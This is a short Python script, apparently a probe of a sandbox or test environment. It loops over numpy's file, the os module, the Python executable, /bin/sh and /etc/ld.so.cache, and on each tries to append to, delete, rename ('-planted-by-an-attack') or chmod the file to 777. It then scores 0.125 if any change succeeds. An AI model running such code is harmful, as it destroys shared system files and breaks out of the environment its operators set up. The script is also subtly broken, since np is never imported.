"""Changes the libraries on disk that every process reads. On value."""
import os
import sys

changed = []
for path in [np.__file__, os.__file__, sys.executable, sys.modules["inside"].__file__, "/bin/sh", "/etc/ld.so.cache"]:
    for way in (lambda: open(path, "ab").write(b"\n"), lambda: os.remove(path), lambda: os.rename(path, path + "-planted-by-an-attack"), lambda: os.chmod(path, 0o777)):
        try:
            way()
            changed.append(path)
        except OSError:
            pass
print(changed)
value = 0.125 if changed else 0.0
